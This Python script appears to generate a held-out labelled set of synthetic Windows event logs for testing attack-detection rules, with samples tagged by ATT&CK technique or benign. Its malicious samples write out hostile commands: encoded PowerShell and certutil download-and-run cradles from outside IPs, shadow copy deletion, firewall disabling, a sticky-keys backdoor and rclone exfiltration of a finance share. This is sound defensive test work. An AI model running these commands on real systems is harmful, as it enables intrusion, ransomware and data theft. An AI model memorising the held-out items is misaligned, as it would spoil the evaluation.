#!/usr/bin/env python3
"""Writes seen-heldout-1.jsonl: the stand-in for the unseen labelled set the project is checked on (see README.md).

THE RULES' AUTHOR MUST NOT READ THIS FILE OR seen-heldout-1.jsonl: they measure how well rules tuned on tuning.jsonl
generalise. Everything here is written by hand or varied from hand-written templates (nothing copied from a public
dataset); other hosts, users, addresses, field orders and collector formats than tuning, more obfuscation, and
techniques tuning does not show. Deterministic: `python3 generate_heldout.py`.
"""
import base64
import json
import os
import random
from datetime import datetime, timedelta, timezone

R = random.Random(77031)
OUT = []
HERE = os.path.dirname(os.path.abspath(__file__))
T0 = datetime(2026, 12, 2, 13, 4, 37, tzinfo=timezone.utc)
DOM = "nwind.internal"


def t(sec):
    return T0 + timedelta(seconds=sec)


def iso(sec, ms=True):
    x = t(sec)
    return x.strftime("%Y-%m-%dT%H:%M:%S") + (f".{R.randint(0, 999999):06d}Z" if ms else "Z")


def add(source, line, technique, note):
    OUT.append({"source": source, "line": line, "malicious": technique is not None, "technique": technique, "note": note})


def enc(ps):
    return base64.b64encode(ps.encode("utf-16-le")).decode()


def hexs(s):
    return s.encode().hex().upper()


def xesc(v):
    return str(v).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def guid():
    return "%08x-%04x-%04x-%04x-%012x" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16), R.getrandbits(16), R.getrandbits(48))


# Windows XML as exported by Splunk's XmlWinEventLog / WEF: double-quoted attributes, Opcode/Keywords order of the
# real renderer, EventData Data values escaped.
def wxml(eid, comp, sec, data, channel="Security", prov=("Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-A5BA-3E3B0328C30D}"), task=12544, level=0,
         kw="0x8020000000000000", body=None, ver=0):
    ed = "".join(f'<Data Name="{k}">{xesc(v)}</Data>' for k, v in data)
    body = body if body is not None else f"<EventData>{ed}</EventData>"
    return (f'<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="{prov[0]}" Guid="{prov[1]}" />'
            f"<EventID>{eid}</EventID><Version>{ver}</Version><Level>{level}</Level><Task>{task}</Task><Opcode>0</Opcode><Keywords>{kw}</Keywords>"
            f'<TimeCreated SystemTime="{iso(sec)}" /><EventRecordID>{R.randint(10**6, 10**8)}</EventRecordID><Correlation ActivityID="{{{guid().upper()}}}" />'
            f'<Execution ProcessID="{R.choice([4, 688, 704, 812])}" ThreadID="{R.randint(100, 9999)}" /><Channel>{channel}</Channel><Computer>{comp}</Computer>'
            f"<Security /></System>{body}</Event>")


# winlogbeat 8 / Elastic Agent with ECS fields next to winlog.*
def ecs(eid, comp, sec, data, channel="Security", provider="Microsoft-Windows-Security-Auditing", category=None, action=None, outcome=None, process=None, user=None, source=None, message=None):
    doc = {"@timestamp": iso(sec), "agent": {"type": "winlogbeat", "version": "8.15.3"}, "ecs": {"version": "8.11.0"},
           "event": {"code": str(eid), "provider": provider, "module": "security" if channel == "Security" else "windows", "created": iso(sec + 1)},
           "host": {"hostname": comp.split(".")[0], "os": {"family": "windows", "version": "10.0"}},
           "log": {"level": "information"},
           "winlog": {"api": "wineventlog", "channel": channel, "computer_name": comp, "event_data": dict(data), "event_id": str(eid),
                      "provider_name": provider, "record_id": R.randint(10**6, 10**8), "process": {"pid": R.choice([4, 688, 704]), "thread": {"id": R.randint(100, 9999)}}}}
    if category:
        doc["event"]["category"] = category
    if action:
        doc["event"]["action"] = action
    if outcome:
        doc["event"]["outcome"] = outcome
    if process:
        doc["process"] = process
    if user:
        doc["user"] = user
    if source:
        doc["source"] = source
    if message:
        doc["message"] = message
    return json.dumps(doc, separators=(",", ":"))


# NXLog im_msvistalog JSON (flat keys)
def nxlog(eid, comp, sec, fields, channel="Security", src="Microsoft-Windows-Security-Auditing", msg=""):
    doc = {"EventTime": t(sec).strftime("%Y-%m-%d %H:%M:%S"), "Hostname": comp, "Keywords": -9214364837600034816, "EventType": "AUDIT_SUCCESS", "SeverityValue": 2,
           "Severity": "INFO", "EventID": eid, "SourceName": src, "ProviderGuid": "{54849625-5478-4994-A5BA-3E3B0328C30D}", "Version": 0, "Task": 12544,
           "OpcodeValue": 0, "RecordNumber": R.randint(10**6, 10**8), "ProcessID": 704, "ThreadID": R.randint(100, 9999), "Channel": channel, "Message": msg}
    doc.update(fields)
    doc["EventReceivedTime"] = t(sec + 2).strftime("%Y-%m-%d %H:%M:%S")
    doc["SourceModuleName"] = "eventlog"
    doc["SourceModuleType"] = "im_msvistalog"
    return json.dumps(doc, separators=(",", ":"))


# Splunk Universal Forwarder classic rendering squeezed to one line, different header order than tuning
def skv(eid, comp, sec, task, msg, log="Security", srcname="Microsoft Windows security auditing.", kw="Audit Success"):
    return (f"{t(sec).strftime('%m/%d/%Y %I:%M:%S %p')} LogName={log} SourceName={srcname} EventCode={eid} EventType=0 Type=Information "
            f"ComputerName={comp} TaskCategory={task} OpCode=Info RecordNumber={R.randint(10**6, 10**8)} Keywords={kw} Message={msg}")


def m4688(user, dom, image, cmd, parent, elev="%%1936"):
    return (f"A new process has been created.  Creator Subject:  Security ID: {dom}\\{user}  Account Name: {user}  Account Domain: {dom}  Logon ID: 0x{R.randint(0x10000, 0xFFFFFF):X}  "
            f"Target Subject:  Security ID: NULL SID  Account Name: -  Account Domain: -  Logon ID: 0x0  Process Information:  New Process ID: 0x{R.randint(0x100, 0x3FFF):x}  "
            f"New Process Name: {image}  Token Elevation Type: {elev}  Mandatory Label: Mandatory Label\\High Mandatory Level  Creator Process ID: 0x{R.randint(0x100, 0x3FFF):x}  "
            f"Creator Process Name: {parent}  Process Command Line: {cmd}")


def d4625(user, dom, ip, ws, lt="3", status="0xC000006D", sub="0xC000006A", pkg="NTLM", proc="NtLmSsp "):
    return [("SubjectUserSid", "S-1-0-0"), ("SubjectUserName", "-"), ("SubjectDomainName", "-"), ("SubjectLogonId", "0x0"), ("TargetUserSid", "S-1-0-0"),
            ("TargetUserName", user), ("TargetDomainName", dom), ("Status", status), ("FailureReason", "%%2313"), ("SubStatus", sub), ("LogonType", lt),
            ("LogonProcessName", proc), ("AuthenticationPackageName", pkg), ("WorkstationName", ws), ("TransmittedServices", "-"), ("LmPackageName", "-"),
            ("KeyLength", "0"), ("ProcessId", "0x0"), ("ProcessName", "-"), ("IpAddress", ip), ("IpPort", str(R.randint(1025, 65000)))]


def d4624(user, dom, ip, ws, lt, proc="Kerberos", pkg="Kerberos", lm="-", kl="0", elevated="%%1843"):
    return [("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", ws + "$" if ws not in ("-", "") else "-"), ("SubjectDomainName", "NWIND"), ("SubjectLogonId", "0x3e7"),
            ("TargetUserSid", f"S-1-5-21-3623811015-3361044348-30300820-{R.randint(1100, 9000)}"), ("TargetUserName", user), ("TargetDomainName", dom),
            ("TargetLogonId", f"0x{R.randint(0x100000, 0xFFFFFFF):X}"), ("LogonType", lt), ("LogonProcessName", proc), ("AuthenticationPackageName", pkg),
            ("WorkstationName", ws), ("LogonGuid", "{" + guid().upper() + "}"), ("TransmittedServices", "-"), ("LmPackageName", lm), ("KeyLength", kl),
            ("ProcessId", "0x0"), ("ProcessName", "-"), ("IpAddress", ip), ("IpPort", "0" if ip == "-" else str(R.randint(1025, 65000))),
            ("ImpersonationLevel", "%%1833"), ("RestrictedAdminMode", "-"), ("VirtualAccount", "%%1843"), ("ElevatedToken", elevated)]


def windows_security():
    s = "windows-security"
    dc = f"DC-02.{DOM}"
    s32 = "C:\\Windows\\System32\\"
    # RDP brute force against one account, ECS JSON
    for i in range(5):
        data = d4625("svc_backup", "NWIND", "5.252.177.30", "WIN-8OKQ3V1", lt="10", proc="User32 ", pkg="Negotiate")
        add(s, ecs(4625, f"SRV-RDGW01.{DOM}", 5 + i * 4, data, category=["authentication"], action="logon-failed", outcome="failure",
                   source={"ip": "5.252.177.30", "port": R.randint(1025, 65000), "domain": "WIN-8OKQ3V1"}, user={"name": "svc_backup", "domain": "NWIND"},
                   message="An account failed to log on."),
            "T1110.001", "repeated RDP password failures for one account from one internet address")
    add(s, ecs(4624, f"SRV-FILE03.{DOM}", 60, d4624("k.olsen", "NWIND", "172.16.12.40", "LT-0412", "3"), category=["authentication"], action="logged-in", outcome="success",
               source={"ip": "172.16.12.40"}, user={"name": "k.olsen", "domain": "NWIND"}, message="An account was successfully logged on."),
        None, "Kerberos network logon to a file server")
    # Kerberos pre-auth spray (4771), NXLog JSON
    for i, u in enumerate(["t.ibrahim", "k.olsen", "m.petrov", "s.yamada", "l.moreau"]):
        add(s, nxlog(4771, dc, 100 + i, {"TargetUserName": u, "TargetSid": f"S-1-5-21-3623811015-3361044348-30300820-{1200 + i}", "ServiceName": "krbtgt/NWIND",
                                          "TicketOptions": "0x40810010", "Status": "0x18", "PreAuthType": "2", "IpAddress": "::ffff:172.16.40.23", "IpPort": str(R.randint(49152, 65000)),
                                          "EventType": "AUDIT_FAILURE", "Category": "Kerberos Authentication Service"}, msg="Kerberos pre-authentication failed."),
            "T1110.003", "one internal host failing Kerberos pre-auth for many users within seconds: spraying")
    add(s, nxlog(4771, dc, 140, {"TargetUserName": "a.kowalski", "ServiceName": "krbtgt/NWIND", "TicketOptions": "0x40810010", "Status": "0x18", "PreAuthType": "2",
                                 "IpAddress": "::ffff:172.16.12.77", "EventType": "AUDIT_FAILURE", "Category": "Kerberos Authentication Service"}, msg="Kerberos pre-authentication failed."),
        None, "one user's single wrong password at the start of the day")
    add(s, wxml(4624, f"SRV-SQL07.{DOM}", 160, d4624("admin_jdelgado", "NWIND", "172.16.40.23", "LT-0388", "3", "NtLmSsp ", "NTLM", "NTLM V2", "0")),
        "T1550.002", "NTLM network logon with key length 0 for an admin from the spraying host (pass-the-hash)")
    add(s, wxml(4662, dc, 170, [("SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-1377"), ("SubjectUserName", "admin_jdelgado"), ("SubjectDomainName", "NWIND"),
                               ("SubjectLogonId", "0x8A2F1C3"), ("ObjectServer", "DS"), ("ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}"),
                               ("ObjectName", "%{4c164200-20c0-11d0-a768-00aa006e0529}"), ("OperationType", "Object Access"), ("HandleId", "0x0"),
                               ("AccessList", "%%7688"), ("AccessMask", "0x100"),
                               ("Properties", "%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}"), ("AdditionalInfo", "-")], task=14080),
        "T1003.006", "directory replication (DS-Replication-Get-Changes-All) requested by a user account, not a DC: DCSync")
    add(s, wxml(4662, dc, 175, [("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", "DC-01$"), ("SubjectDomainName", "NWIND"), ("SubjectLogonId", "0x3E7"), ("ObjectServer", "DS"),
                               ("ObjectType", "%{19195a5b-6da0-11d0-afd3-00c04fd930c9}"), ("ObjectName", "%{4c164200-20c0-11d0-a768-00aa006e0529}"), ("OperationType", "Object Access"),
                               ("AccessMask", "0x100"), ("Properties", "%%7688 {1131f6aa-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}")], task=14080),
        None, "the other domain controller replicating, as DCs do")
    add(s, wxml(4768, dc, 180, [("TargetUserName", "svc_legacyftp"), ("TargetDomainName", "NWIND"), ("TargetSid", "S-1-5-21-3623811015-3361044348-30300820-2210"), ("ServiceName", "krbtgt"),
                               ("TicketOptions", "0x40800010"), ("Status", "0x0"), ("TicketEncryptionType", "0x17"), ("PreAuthType", "0"), ("IpAddress", "::ffff:172.16.40.23"), ("IpPort", "50122")], task=14339),
        "T1558.004", "TGT issued without pre-authentication, RC4, to the spraying host: AS-REP roasting")
    add(s, wxml(4768, dc, 185, [("TargetUserName", "k.olsen"), ("TargetDomainName", "NWIND"), ("ServiceName", "krbtgt"), ("TicketOptions", "0x40810010"), ("Status", "0x0"),
                               ("TicketEncryptionType", "0x12"), ("PreAuthType", "2"), ("IpAddress", "::ffff:172.16.12.40"), ("IpPort", "51102")], task=14339),
        None, "normal AES TGT")
    add(s, nxlog(4769, dc, 195, {"TargetUserName": "s.yamada@NWIND.INTERNAL", "ServiceName": "SRV-FILE03$", "TicketOptions": "0x40810000", "TicketEncryptionType": "0x12",
                                 "IpAddress": "::ffff:172.16.12.51", "Status": "0x0", "Category": "Kerberos Service Ticket Operations"}, msg="A Kerberos service ticket was requested."),
        None, "AES service ticket to a file server")
    add(s, ecs(1102, dc, 200, {}, provider="Microsoft-Windows-Eventlog", category=["iam"], action="audit-log-cleared", outcome="success",
               user={"name": "admin_jdelgado", "domain": "NWIND"}, message="The audit log was cleared.\nSubject:\n\tSecurity ID:\tS-1-5-21-3623811015-3361044348-30300820-1377\n\tAccount Name:\tadmin_jdelgado"),
        "T1070.001", "security log cleared on the DC")
    P = lambda sec, comp, user, image, cmd, parent, dom="NWIND": skv(4688, comp, sec, "Process Creation", m4688(user, dom, image, cmd, parent))
    add(s, P(210, f"SRV-FILE03.{DOM}", "admin_jdelgado", s32 + "cmd.exe", 'c^m^d /c "v^ssadm^in De^lete Sha^dows /A^ll /Q^uiet"', s32 + "wbem\\WmiPrvSE.exe"),
        "T1490", "caret-obfuscated shadow copy deletion run through WMI")
    add(s, P(215, f"LT-0388.{DOM}", "m.petrov", s32 + "cmd.exe", 'cmd.exe /V:ON /C "set x=cert&& set y=util&& !x!!y! -url""cache -f h^ttp://37.120.201.9/inv.png %TEMP%\\inv.exe"', "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"),
        "T1105", "certutil hidden in delayed-expansion variables, downloads from Outlook")
    add(s, P(225, f"SRV-SQL07.{DOM}", "admin_jdelgado", s32 + "netsh.exe", "netsh advfirewall set allprofiles state off", s32 + "cmd.exe"), "T1562.004", "host firewall switched off")
    add(s, P(230, f"LT-0388.{DOM}", "m.petrov", s32 + "nltest.exe", "nltest /domain_trusts /all_trusts", s32 + "cmd.exe"), "T1482", "domain trust discovery")
    add(s, P(235, f"SRV-RDGW01.{DOM}", "admin_jdelgado", s32 + "reg.exe", 'REG ADD "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe" /v Debugger /t REG_SZ /d "C:\\windows\\system32\\cmd.exe" /f', s32 + "cmd.exe"),
        "T1546.012", "sticky-keys backdoor via IFEO Debugger")
    add(s, P(240, f"SRV-FILE03.{DOM}", "admin_jdelgado", "C:\\ProgramData\\USOShared\\rcl.exe", "rcl.exe copy \\\\SRV-FILE03\\Finance mega:bk-0212 --transfers 16 --no-check-certificate -q", s32 + "cmd.exe"),
        "T1567.002", "renamed rclone pushing the finance share to MEGA")
    add(s, P(245, f"LT-0388.{DOM}", "m.petrov", s32 + "WindowsPowerShell\\v1.0\\powershell.exe", "powershell -ep bypass -w 1 -ec " + enc("iex(irm http://37.120.201.9/s2)"), "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE"),
        "T1059.001", "Word spawning hidden PowerShell with a shortened -ec encoded command")
    add(s, wxml(4697, f"SRV-SQL07.{DOM}", 250, [("SubjectUserSid", "S-1-5-18"), ("SubjectUserName", "SRV-SQL07$"), ("SubjectDomainName", "NWIND"), ("SubjectLogonId", "0x3E7"),
                                               ("ServiceName", "hxqlwb"), ("ServiceFileName", "cmd.exe /c echo hxqlwb > \\\\.\\pipe\\hxqlwb"), ("ServiceType", "0x10"), ("ServiceStartType", "3"), ("ServiceAccount", "LocalSystem")], task=12289),
        "T1134.001", "named-pipe service trick used by getsystem to impersonate SYSTEM")
    add(s, f"{iso(255, False)} SRV-SQL07 Microsoft-Windows-Security-Auditing: 4732: A member was added to a security-enabled local group. Subject: Account Name: m.petrov Account Domain: NWIND Member: Security ID: NWIND\\m.petrov Group: Group Name: Administrators Group Domain: Builtin",
        "T1098", "a standard user adding himself to local Administrators on a SQL server")
    add(s, f"{iso(260, False)} SRV-SQL07 Microsoft-Windows-Security-Auditing: 4720: A user account was created. Subject: Account Name: m.petrov Account Domain: NWIND New Account: Account Name: Administrat0r Account Domain: SRV-SQL07",
        "T1136.001", "local look-alike administrator account created")
    add(s, f"{iso(265, False)} {dc} Microsoft-Windows-Security-Auditing: 5136: A directory service object was modified. Subject: Account Name: admin_jdelgado Account Domain: NWIND Object: DN: CN={{31B2F340-016D-11D2-945F-00C04FB984F9}},CN=Policies,CN=System,DC=nwind,DC=internal Class: groupPolicyContainer Attribute: LDAP Display Name: gPCMachineExtensionNames Value: [{{00000000-0000-0000-0000-000000000000}}{{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}}][{{AADCED64-746C-4633-A97C-D61349046527}}{{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}}] Operation: Type: Value Added",
        "T1484.001", "Default Domain Policy changed to push an immediate scheduled task")
    add(s, f"{iso(270, False)} SRV-SQL07 Microsoft-Windows-Security-Auditing: 5145: A network share object was checked to see whether client can be granted desired access. Subject: Account Name: admin_jdelgado Account Domain: NWIND Network Information: Source Address: 172.16.40.23 Share Information: Share Name: \\\\*\\IPC$ Relative Target Name: svcctl Access Request Information: Access Mask: 0x3",
        "T1021.002", "remote service control over IPC$ from the compromised host")
    # benign
    add(s, ecs(4624, f"LT-0412.{DOM}", 300, d4624("k.olsen", "NWIND", "127.0.0.1", "LT-0412", "2", "User32 ", "Negotiate"), category=["authentication"], action="logged-in", outcome="success", message="An account was successfully logged on."),
        None, "interactive logon")
    add(s, ecs(4624, f"LT-0412.{DOM}", 310, d4624("k.olsen", "NWIND", "127.0.0.1", "LT-0412", "7", "User32 ", "Negotiate"), category=["authentication"], action="logged-in", outcome="success", message="An account was successfully logged on."),
        None, "unlock")
    add(s, ecs(4647, f"LT-0412.{DOM}", 320, {"TargetUserName": "k.olsen", "TargetDomainName": "NWIND", "TargetLogonId": "0x5A3B21"}, category=["authentication"], action="logged-out", outcome="success", message="User initiated logoff:"),
        None, "user logoff")
    add(s, ecs(4625, f"SRV-FILE03.{DOM}", 330, d4625("t.ibrahim", "NWIND", "172.16.12.33", "LT-0451", lt="3"), category=["authentication"], action="logon-failed", outcome="failure",
               source={"ip": "172.16.12.33"}, message="An account failed to log on."),
        None, "a single failed share logon after a password change")
    add(s, wxml(4625, f"SRV-WEB11.{DOM}", 340, d4625("tibrahim", "NWIND", "172.16.12.61", "LT-0460", lt="2", sub="0xC0000064", proc="User32 ", pkg="Negotiate")),
        None, "a single mistyped user name at a console")
    add(s, wxml(4624, f"SRV-FILE03.{DOM}", 350, d4624("svc_tenable", "NWIND", "172.16.250.10", "TENABLE-SC01", "3", "NtLmSsp ", "NTLM", "NTLM V2", "128")),
        None, "Tenable.sc credentialed audit from the authorised scanner subnet")
    add(s, wxml(4624, f"SRV-SQL07.{DOM}", 355, d4624("svc_sqlagent", "NWIND", "-", "-", "5", "Advapi  ", "Negotiate")), None, "service account starting SQL Agent")
    add(s, wxml(4672, f"JMP-01.{DOM}", 360, [("SubjectUserSid", "S-1-5-21-3623811015-3361044348-30300820-1290"), ("SubjectUserName", "admin_sholm"), ("SubjectDomainName", "NWIND"),
                                            ("SubjectLogonId", "0x9B1C22"), ("PrivilegeList", "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeDebugPrivilege".replace("\n\t\t\t", " "))], task=12548),
        None, "privileged logon of an admin on the jump host")
    add(s, wxml(4624, f"JMP-01.{DOM}", 365, d4624("admin_sholm", "NWIND", "172.16.5.14", "PAW-SHOLM", "10", "User32 ", "Negotiate")), None, "admin RDP from his privileged access workstation")
    add(s, P(370, f"JMP-01.{DOM}", "admin_sholm", s32 + "whoami.exe", "whoami /priv", s32 + "cmd.exe"), None, "admin checking his privileges in an interactive shell")
    add(s, P(375, f"JMP-01.{DOM}", "admin_sholm", s32 + "gpresult.exe", "gpresult /r /scope:computer", s32 + "cmd.exe"), None, "admin checking applied GPOs")
    add(s, P(380, f"LT-0451.{DOM}", "SYSTEM", s32 + "WindowsPowerShell\\v1.0\\powershell.exe", 'PowerShell.exe -NoLogo -ExecutionPolicy Bypass -NonInteractive -File "C:\\Windows\\CCM\\ScriptStore\\8F1C2A4B9E7D46A3B1C0D9E8F7A6B5C4_Remediate-WinRM.ps1"', "C:\\Windows\\CCM\\CcmExec.exe", dom="NT AUTHORITY"),
        None, "SCCM configuration item remediation script (ExecutionPolicy Bypass, ScriptStore)")
    add(s, P(385, f"LT-0412.{DOM}", "SYSTEM", s32 + "WindowsPowerShell\\v1.0\\powershell.exe", '"C:\\WINDOWS\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoProfile -executionPolicy bypass -file "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Policies\\Scripts\\0c7f_9a1e.ps1"', "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe", dom="NT AUTHORITY"),
        None, "Intune platform script")
    add(s, P(390, f"SRV-FILE03.{DOM}", "svc_veeam", "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\VeeamAgent.exe", "VeeamAgent.exe -l \"C:\\ProgramData\\Veeam\\Backup\\FileShare\\Agent.Target.log\" -id 8f2c", "C:\\Program Files\\Veeam\\Backup and Replication\\Backup\\Veeam.Backup.Manager.exe"),
        None, "Veeam data mover")
    add(s, P(395, dc, "svc_backup", s32 + "wbadmin.exe", "wbadmin start systemstatebackup -backupTarget:F: -quiet", s32 + "taskeng.exe"), None, "system-state backup of the DC")
    add(s, P(400, f"SRV-SQL07.{DOM}", "SYSTEM", s32 + "vssadmin.exe", "vssadmin list writers", "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe", dom="NT AUTHORITY"), None, "backup agent checking VSS writers")
    add(s, P(405, f"LT-0451.{DOM}", "t.ibrahim", s32 + "net.exe", "net use S: \\\\SRV-FILE03\\Sales /persistent:yes", "C:\\Windows\\explorer.exe"), None, "user mapping a drive")
    add(s, nxlog(4624, f"SRV-WEB11.{DOM}", 410, {"TargetUserName": "svc_qualys", "TargetDomainName": "NWIND", "LogonType": "3", "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
                                                 "WorkstationName": "QUALYS-SCAN02", "IpAddress": "172.16.250.11", "LmPackageName": "NTLM V2", "KeyLength": "128"},
                 msg="An account was successfully logged on. (Qualys authenticated scan, authorised scanner appliance)"),
        None, "Qualys scanner appliance authenticating, approved")
    add(s, nxlog(4724, dc, 415, {"SubjectUserName": "helpdesk_oreyes", "SubjectDomainName": "NWIND", "TargetUserName": "t.ibrahim", "TargetDomainName": "NWIND"},
                 msg="An attempt was made to reset an account's password."), None, "help desk password reset")
    add(s, nxlog(5140, f"SRV-FILE03.{DOM}", 420, {"SubjectUserName": "s.yamada", "SubjectDomainName": "NWIND", "IpAddress": "172.16.12.51", "ShareName": "\\\\*\\Sales", "ShareLocalPath": "\\??\\D:\\Shares\\Sales", "AccessMask": "0x1"},
                 msg="A network share object was accessed."), None, "user opening a department share")
    add(s, nxlog(4634, f"SRV-FILE03.{DOM}", 425, {"TargetUserName": "s.yamada", "TargetDomainName": "NWIND", "LogonType": "3"}, msg="An account was logged off."), None, "logoff")
    add(s, nxlog(4616, f"LT-0412.{DOM}", 430, {"SubjectUserName": "LOCAL SERVICE", "PreviousTime": t(429).strftime("%Y-%m-%dT%H:%M:%S.1000000Z"), "NewTime": t(430).strftime("%Y-%m-%dT%H:%M:%S.2000000Z"), "ProcessName": "C:\\Windows\\System32\\svchost.exe"},
                 msg="The system time was changed."), None, "w32time correction")


def snare(sec, comp, log, eid, src, level, msg):
    x = t(sec)
    return (f"<14>{x.strftime('%b')} {x.day:>2} {x.strftime('%H:%M:%S')} {comp} MSWinEventLog\t1\t{log}\t{R.randint(1000, 99999)}\t{x.strftime('%a %b %d %H:%M:%S %Y')}\t{eid}\t{src}\t"
            f"N/A\tN/A\t{level}\t{comp}\tNone\t\t{msg}\t{R.randint(100, 9999)}")


def windows_system():
    s = "windows-system"
    scm = ("Service Control Manager", "{555908D1-A6D7-4695-8E1E-26931D2012F4}")

    def svc(sec, comp, name, path, stype="user mode service", start="demand start", acct="LocalSystem"):
        return wxml(7045, comp, sec, [("ServiceName", name), ("ImagePath", path), ("ServiceType", stype), ("StartType", start), ("AccountName", acct)],
                    channel="System", prov=scm, task=0, level=4, kw="0x8080000000000000")

    def secs(sec, comp, name, path, start="demand start", stype="user mode service"):
        return ecs(7045, comp, sec, {"ServiceName": name, "ImagePath": path, "ServiceType": stype, "StartType": start, "AccountName": "LocalSystem"},
                   channel="System", provider="Service Control Manager", action="service-installed", message=f"A service was installed in the system.\n\nService Name:  {name}\nService File Name:  {path}")
    add(s, svc(10, f"SRV-SQL07.{DOM}", "RtPq", "%systemroot%\\xKqYwZpa.exe"), "T1569.002", "random-named service binary in the Windows folder (impacket psexec pattern)")
    add(s, svc(20, f"SRV-FILE03.{DOM}", "7f3a2c1", "\\\\127.0.0.1\\ADMIN$\\7f3a2c1.exe"), "T1569.002", "service run from the local ADMIN$ share (Cobalt Strike psexec)")
    add(s, secs(30, f"SRV-WEB11.{DOM}", "WinSvcHost", "%COMSPEC% /b /c start /b /min powershell -nop -w hidden -noni -c \"IEX ((new-object net.webclient).downloadstring('http://146.19.24.7:80/a'))\""),
        "T1569.002", "service whose command line is a hidden PowerShell cradle")
    add(s, secs(40, f"SRV-SQL07.{DOM}", "SQLTelemetryHelper", "C:\\Windows\\System32\\cmd.exe /c powershell.exe -NoP -NonI -W Hidden -E " + enc("$w=New-Object Net.WebClient;$w.DownloadFile('http://146.19.24.7/t.exe','C:\\Windows\\Temp\\t.exe');Start-Process C:\\Windows\\Temp\\t.exe"), start="auto start"),
        "T1543.003", "auto-start service launching an encoded PowerShell (-E) downloader")
    add(s, svc(50, f"SRV-SQL07.{DOM}", "AnyDesk", "\"C:\\ProgramData\\AnyDesk\\AnyDesk.exe\" --service", start="auto start"), "T1219", "remote-access tool outside the estate's approved list installed on a database server")
    add(s, svc(60, f"LT-0388.{DOM}", "gdrv", "\\??\\C:\\Users\\Public\\gdrv.sys", stype="kernel mode driver", start="demand start"), "T1068", "known vulnerable signed driver loaded from Public (bring your own vulnerable driver)")
    add(s, svc(70, f"LT-0388.{DOM}", "mimidrv", "\\??\\C:\\Users\\m.petrov\\AppData\\Local\\Temp\\mimidrv.sys", stype="kernel mode driver"), "T1543.003", "mimikatz driver installed as a service")
    add(s, skv(7045, f"SRV-WEB11.{DOM}", 80, "None", "A service was installed in the system.  Service Name:  WinRMHelper  Service File Name:  rundll32.exe C:\\ProgramData\\Oracle\\Java\\javapath_x\\jre.dll,DllRegisterServer  Service Type:  user mode service  Service Start Type:  auto start  Service Account:  LocalSystem",
               log="System", srcname="Service Control Manager", kw="Classic"), "T1543.003", "auto-start service running a DLL with rundll32 from ProgramData")
    add(s, skv(7045, f"SRV-FILE03.{DOM}", 90, "None", "A service was installed in the system.  Service Name:  BTOBTO  Service File Name:  %COMSPEC% /Q /c echo dir \\\\ADMIN$ ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %SYSTEMROOT%\\Temp\\execute.bat & %COMSPEC% /Q /c %SYSTEMROOT%\\Temp\\execute.bat & del %SYSTEMROOT%\\Temp\\execute.bat  Service Type:  user mode service  Service Start Type:  demand start  Service Account:  LocalSystem",
               log="System", srcname="Service Control Manager", kw="Classic"), "T1569.002", "smbexec-style service")
    add(s, nxlog(104, f"SRV-WEB11.{DOM}", 100, {"SubjectUserName": "admin_jdelgado", "SubjectDomainName": "NWIND", "Channel": "System", "BackupPath": "", "SourceName": "Microsoft-Windows-Eventlog"},
                 channel="System", src="Microsoft-Windows-Eventlog", msg="The System log file was cleared."), "T1070.001", "System log cleared")
    add(s, snare(110, "SRV-FILE03", "System", 104, "Microsoft-Windows-Eventlog", "Information", "The Windows PowerShell log file was cleared."), "T1070.001", "PowerShell classic log cleared (Snare export)")
    add(s, ecs(7040, f"SRV-SQL07.{DOM}", 120, {"param1": "Windows Defender Firewall", "param2": "auto start", "param3": "disabled", "param4": "mpssvc"}, channel="System", provider="Service Control Manager",
               message="The start type of the Windows Defender Firewall service was changed from auto start to disabled."), "T1562.004", "firewall service disabled")
    add(s, ecs(7040, f"SRV-FILE03.{DOM}", 130, {"param1": "Volume Shadow Copy", "param2": "demand start", "param3": "disabled", "param4": "VSS"}, channel="System", provider="Service Control Manager",
               message="The start type of the Volume Shadow Copy service was changed from demand start to disabled."), "T1490", "VSS disabled before encryption")
    add(s, ecs(7036, f"SRV-WEB11.{DOM}", 140, {"param1": "Windows Event Log", "param2": "stopped"}, channel="System", provider="Service Control Manager",
               message="The Windows Event Log service entered the stopped state."), "T1562.002", "event log service stopped")
    add(s, nxlog(7036, f"SRV-FILE03.{DOM}", 150, {"param1": "Sophos Endpoint Defense Service", "param2": "stopped"}, channel="System", src="Service Control Manager",
                 msg="The Sophos Endpoint Defense Service service entered the stopped state."), "T1562.001", "endpoint protection stopped on the file server under attack")
    add(s, nxlog(7045, f"SRV-FILE03.{DOM}", 155, {"ServiceName": "PSEXESVC", "ImagePath": "%SystemRoot%\\PSEXESVC.exe", "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"},
                 channel="System", src="Service Control Manager", msg="A service was installed in the system."), "T1569.002", "PsExec service (NXLog export)")
    # benign
    add(s, svc(200, f"LT-0412.{DOM}", "Tenable Nessus Agent", "\"C:\\Program Files\\Tenable\\Nessus Agent\\nessus-service.exe\"", start="auto start"), None, "approved vulnerability agent rollout")
    add(s, svc(210, f"SRV-SQL07.{DOM}", "SplunkForwarder", "\"C:\\Program Files\\SplunkUniversalForwarder\\bin\\splunkd.exe\" service", start="auto start"), None, "log forwarder installed")
